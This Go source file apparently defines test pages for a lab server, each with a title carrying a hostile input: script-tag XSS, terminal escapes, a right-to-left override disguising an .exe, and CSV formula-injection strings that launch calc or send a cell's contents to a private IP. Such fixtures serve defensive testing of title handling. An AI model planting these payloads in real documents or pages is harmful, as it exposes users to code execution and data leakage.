package lab

import "strings"

// titleExhibits have titles that do harm if printed unescaped: on a terminal, in a
// spreadsheet, in a report.
var titleExhibits = []Exhibit{
	titled("markup", "markup that a title keeps as text", `<b>bold</b><script>alert(1)</script>`),
	titled("entities", "markup written as entities", `&lt;img src=x onerror=alert(1)&gt; &amp;amp; &#x22;`),
	titled("controls", "terminal escapes, bell, backspaces and line breaks", "a\x1b[2J\x1b[31mred\x07\x08\x08\r\nb\tc\x7f"),
	titled("bidi", "a right-to-left override and invisible characters", "invoice\u202efdp.exe\u200b\u2066\ufeff"),
	titled("formula", "a spreadsheet formula", `=HYPERLINK("http://10.0.0.1/?"&amp;A1,"click")`),
	titled("formula-plus", "a formula after a plus sign", `+1+cmd|' /C calc'!A0`),
	titled("formula-minus", "a formula after a minus sign", `-2+3+cmd|' /C calc'!A0`),
	titled("formula-at", "a formula after an at sign", `@SUM(1+1)*cmd|' /C calc'!A0`),
	titled("formula-tab", "a formula after a tab", "\t=1+1"),
	titled("quotes", "quotes, commas and line endings, as in CSV", "a\"b\",\"c\r\nd;e"),
	titled("bad-utf8", "bytes that are not UTF-8", "caf\xe9 \xc3\x28 \xf0\x9f"),
	titled("long", "one megabyte of title", strings.Repeat("long title ", 1<<20/11)),
	titled("empty", "an empty title", ""),
	{Path: "/exhibit/title/none", About: "no title", serve: func(x *exchange) { x.page200(htmlType, "<!DOCTYPE html><p>untitled") }},
	{Path: "/exhibit/title/two", About: "two titles, and one inside an SVG image before them", serve: func(x *exchange) {
		x.page200(htmlType, "<!DOCTYPE html><svg><title>image</title></svg><title>first</title><title>second</title>")
	}},
	{Path: "/exhibit/title/open", About: "a title that is never closed", serve: func(x *exchange) {
		x.page200(htmlType, "<!DOCTYPE html><title>open<p><a href=\"/exhibit/reached/title-open\">on</a>")
	}},
}

func titled(name, about, title string) Exhibit {
	return Exhibit{Path: "/exhibit/title/" + name, About: about, serve: func(x *exchange) {
		x.page200(htmlType, "<!DOCTYPE html><html><head><title>"+title+"</title></head><body><p>text</body></html>")
	}}
}
